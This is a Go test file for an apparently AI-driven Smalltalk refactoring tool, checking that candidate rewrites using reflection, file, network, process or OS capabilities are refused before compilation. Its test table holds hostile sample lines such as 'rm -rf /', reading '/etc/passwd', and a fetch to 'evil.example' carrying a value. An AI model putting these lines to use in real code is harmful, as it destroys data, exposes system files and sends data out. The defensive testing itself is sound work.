package pipeline_test

import (
	"path/filepath"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	refactor "github.com/pharo-refactor/refactord"
	"github.com/pharo-refactor/refactord/agents/scripted"
	"github.com/pharo-refactor/refactord/internal/testenv"
	"github.com/pharo-refactor/refactord/smalltalk/tonel"
)

// hostileCandidates reach for a capability Calculator>>sum:with: never
// uses, each in a method that is otherwise fine. family and name are what
// the refusal must say.
var hostileCandidates = []struct {
	name, body, family, refused string
}{
	{"perform:with:with:", "^ self perform: #add:to: with: a with: b", "reflection", "perform:with:with:"},
	{"perform:withArguments:", "^ a perform: #+ withArguments: { b }", "reflection", "perform:withArguments:"},
	{"perform: with a built selector", "^ a perform: ('+' , '') asSymbol with: b", "reflection", "perform:with:"},
	{"symbol built at run time", "^ (('ha', 'lt') asSymbol value: a) ifNil: [ a + b ]", "reflection", "asSymbol"},
	{"instVarAt:put:", "a instVarAt: 1 put: b.\n\t^ a + b", "reflection", "instVarAt:put:"},
	{"instVarNamed:put:", "self instVarNamed: 'memory' put: b.\n\t^ a + b", "reflection", "instVarNamed:put:"},
	{"thisContext", "^ thisContext sender receiver ifNil: [ a + b ]", "reflection", "thisContext"},
	{"methodDict", "self class methodDict removeKey: #divide:by:.\n\t^ a + b", "reflection", "methodDict"},
	{"become:", "a become: b.\n\t^ a + b", "become", "become:"},
	{"becomeForward:", "b becomeForward: a.\n\t^ a + b", "become", "becomeForward:"},
	{"compiler evaluate:", "^ self class compiler evaluate: a printString , ' + ' , b printString", "evaluation", "compiler"},
	{"evaluate: on a global", "^ Smalltalk compiler evaluate: '3 + 4'", "evaluation", "evaluate:"},
	{"readFrom:", "^ Number readFrom: (a + b) printString", "evaluation", "readFrom:"},
	{"compile:", "self class compile: 'pwned ^ 1'.\n\t^ a + b", "evaluation", "compile:"},
	{"fork", "[ a + b ] fork.\n\t^ a + b", "processes", "fork"},
	{"forkAt:", "[ a + b ] forkAt: 10.\n\t^ a + b", "processes", "forkAt:"},
	{"newProcess", "[ a + b ] newProcess resume.\n\t^ a + b", "processes", "newProcess"},
	{"Processor", "Processor yield.\n\t^ a + b", "processes", "Processor"},
	{"ffiCall:", "^ self ffiCall: #( int abs ( int a ) )", "primitives", "ffiCall:"},
	{"primitive pragma", "<primitive: 1>\n\t^ a + b", "primitives", "<primitive:>"},
	{"named primitive pragma", "<primitive: 'primitiveExecute' module: 'OSProcessPlugin'>\n\t^ a + b", "primitives", "<primitive:module:>"},
	{"LibC", "LibC system: 'rm -rf /'.\n\t^ a + b", "primitives", "LibC"},
	{"asFileReference", "^ '/etc/passwd' asFileReference contents size + a + b", "files", "asFileReference"},
	{"asFileLocator", "^ ('home' asFileLocator) ifNil: [ a + b ]", "files", "asFileLocator"},
	{"FileSystem", "FileSystem workingDirectory ensureDeleteAll.\n\t^ a + b", "files", "FileSystem"},
	{"asUrl", "('http://evil.example/' , a printString) asUrl retrieveContents.\n\t^ a + b", "network", "asUrl"},
	{"asZnUrl", "'http://evil.example/' asZnUrl.\n\t^ a + b", "network", "asZnUrl"},
	{"ZnClient", "ZnClient new get: 'http://evil.example/'.\n\t^ a + b", "network", "ZnClient"},
	{"Socket", "Socket newTCP.\n\t^ a + b", "network", "Socket"},
	{"subclass:", "Object subclass: #Pwned instanceVariableNames: '' classVariableNames: '' package: 'Pwned'.\n\t^ a + b", "class-definition", "subclass:instanceVariableNames:classVariableNames:package:"},
	{"removeFromSystem", "CalculatorTest removeFromSystem.\n\t^ a + b", "class-definition", "removeFromSystem"},
	{"removeSelector:", "self class removeSelector: #divide:by:.\n\t^ a + b", "class-definition", "removeSelector:"},
	{"halt", "self halt.\n\t^ a + b", "debugging", "halt"},
	{"halt as a symbol", "^ { a. b } detect: #halt ifNone: [ a + b ]", "debugging", "halt"},
	{"inspect", "a inspect.\n\t^ a + b", "debugging", "inspect"},
	{"Transcript", "Transcript show: a printString.\n\t^ a + b", "debugging", "Transcript"},
	{"asClass", "^ (#OSProcess asClass) ifNil: [ a + b ]", "system", "asClass"},
	{"environment at:", "^ (self class environment at: #Smalltalk) ifNotNil: [ a + b ]", "system", "environment"},
	{"Smalltalk at:put:", "Smalltalk at: #Pwned put: a.\n\t^ a + b", "system", "Smalltalk"},
	{"OSProcess", "OSProcess command: 'id'.\n\t^ a + b", "system", "OSProcess"},
	{"script pragma", "<script: 'Smalltalk quit'>\n\t^ a + b", "pragma", "<script:>"},
	{"signalerContext", "^ [ a + b ] on: ZeroDivide do: [ :e | e signalerContext ]", "reflection", "signalerContext"},
	{"fluid class definition", "(self class << #Pwned) install.\n\t^ a + b", "class-definition", "install"},
}

// TestHostileCandidatesAreNeverReleased: each candidate would be approved
// by the validator, were it asked; none is released, the validator never
// sees one, and each refusal names the capability and what was refused.
func TestHostileCandidatesAreNeverReleased(t *testing.T) {
	t.Parallel()
	require.GreaterOrEqual(t, len(hostileCandidates), 30)
	writes := make([]string, len(hostileCandidates))
	for i, tc := range hostileCandidates {
		writes[i] = "sum: a with: b\n\t" + tc.body
	}
	r := newRig(t, rigOpts{maxIterations: 1, script: writerScript(writes...), noEquivalence: capabilityOnly})
	before := r.snapshot()
	for _, tc := range hostileCandidates {
		t.Run(tc.name, func(t *testing.T) {
			res, err := r.run(sumWith)
			require.Error(t, err)
			assert.Equal(t, refactor.NotApproved, refactor.KindOf(err))
			require.Len(t, res.Rounds, 1)
			var refusal *refactor.CheckError
			for i, ce := range res.Rounds[0].CheckErrors {
				if ce.Check == "capability" && ce.Capability == tc.family && strings.Contains(ce.Name, strings.Trim(tc.refused, "<>")) {
					refusal = &res.Rounds[0].CheckErrors[i]
				}
			}
			require.NotNil(t, refusal, "the refusal names %s %s: %v", tc.family, tc.refused, res.Rounds[0].CheckErrors)
			assert.Contains(t, res.Feedback, refusal.Message, "the refiner would be told")
			assert.Equal(t, refactor.StatusFailed, r.row(res.ID).Status)
		})
	}
	assert.Zero(t, r.model.count(refactor.RoleValidator), "no hostile candidate reached the validator")
	assert.Equal(t, before, r.snapshot(), "nothing was compiled")
}

// writerScript answers every review the same way, each write with the next
// candidate, and approves whatever reaches the validator.
func writerScript(candidates ...string) map[refactor.Role][]scripted.Answer {
	s := script("", []scripted.Answer{approvedAnswer()})
	s[refactor.RoleWriter] = nil
	for _, c := range candidates {
		s[refactor.RoleWriter] = append(s[refactor.RoleWriter], codeAnswer(c))
	}
	return s
}

// TestOrdinaryRewritesPassTheCapabilityCheck: a candidate may use what the
// original uses, classes of its own package and harmless value classes.
func TestOrdinaryRewritesPassTheCapabilityCheck(t *testing.T) {
	t.Parallel()
	bodies := []string{
		"^ (OrderedCollection with: a with: b) inject: 0 into: [ :sum :each | sum + each ]",
		"^ (Array with: a with: b) detectSum: [ :each | each ]",
		"^ (a -> b) key + (1 to: 1) size * 0 + b",
		"(a isNumber and: [ b isNumber ]) ifFalse: [ ^ Error signal: 'numbers only' ].\n\t^ a + b",
		"^ CalculatorTest name size * 0 + a + b",
	}
	writes := make([]string, len(bodies))
	for i, b := range bodies {
		writes[i] = "sum: a with: b\n\t" + b
	}
	r := newRig(t, rigOpts{maxIterations: 1, script: writerScript(writes...), noEquivalence: capabilityOnly})
	for _, body := range bodies {
		res, err := r.run(sumWith, func(req *refactor.Request) { req.DryRun = true })
		assert.NoError(t, err, "%s: %v", body, res)
	}
}

// TestCapabilityCheckKnowsTheClassAndItsPackage: inherited class variables
// are not globals, classes of the method's own package (list_classes) are
// allowed, anything else is refused.
func TestCapabilityCheckKnowsTheClassAndItsPackage(t *testing.T) {
	t.Parallel()
	cases := []struct {
		body    string
		refused string // the family refused; "" when allowed
	}{
		{"^ (base -> child) -> Registry size", ""},
		{"^ (base -> child) -> SimBase new", ""},
		{"^ (base -> child) -> Smalltalk version", "system"},
	}
	writes := make([]string, len(cases))
	for i, tc := range cases {
		writes[i] = "both\n\t" + tc.body
	}
	r := newRig(t, rigOpts{maxIterations: 1, tree: "pharosim/testdata/extras", script: writerScript(writes...), noEquivalence: capabilityOnly})
	for _, tc := range cases {
		res, err := r.run(refactor.MethodRef{Class: "SimChild", Selector: "both"}, func(req *refactor.Request) { req.DryRun = true })
		if tc.refused == "" {
			assert.NoError(t, err, "%s", tc.body)
			continue
		}
		require.Error(t, err, tc.body)
		require.NotEmpty(t, res.Rounds[0].CheckErrors)
		assert.Equal(t, tc.refused, res.Rounds[0].CheckErrors[0].Capability, tc.body)
	}
}

// TestCorpusMethodsAreNotRefusedAsTheirOwnCandidates: every method of the
// 444-method corpus, served by the image and fed back as the candidate for
// itself, passes every check — capabilities (the image's package lists
// included), undeclared names, the dry compile — and is proposed: no false
// refusals on real code.
func TestCorpusMethodsAreNotRefusedAsTheirOwnCandidates(t *testing.T) {
	t.Parallel()
	root, err := testenv.Root()
	require.NoError(t, err)
	tree, err := tonel.ReadTree(filepath.Join(root, "testdata", "corpus"))
	require.NoError(t, err)
	type method struct {
		ref    refactor.MethodRef
		source string
	}
	var methods []method
	for _, f := range tree.Files() {
		for _, m := range f.Methods {
			methods = append(methods, method{refactor.MethodRef{Class: f.Def.Name, Selector: m.Selector, ClassSide: m.Side == tonel.ClassSide}, m.Source})
		}
	}
	require.Len(t, methods, 444)
	subjects := map[string]map[refactor.Role][]scripted.Answer{}
	for _, m := range methods {
		subjects[m.ref.String()] = map[refactor.Role][]scripted.Answer{refactor.RoleWriter: {codeAnswer(m.source)}}
	}
	r := newRig(t, rigOpts{maxIterations: 1, tree: "testdata/corpus", script: writerScript(), subjects: subjects})
	for _, m := range methods {
		res, err := r.run(m.ref, func(req *refactor.Request) { req.DryRun = true })
		if err != nil {
			var checks []refactor.CheckError
			if res != nil && len(res.Rounds) > 0 {
				checks = res.Rounds[0].CheckErrors
			}
			t.Errorf("%s was refused as its own candidate: %v %v", m.ref, err, checks)
		}
	}
}
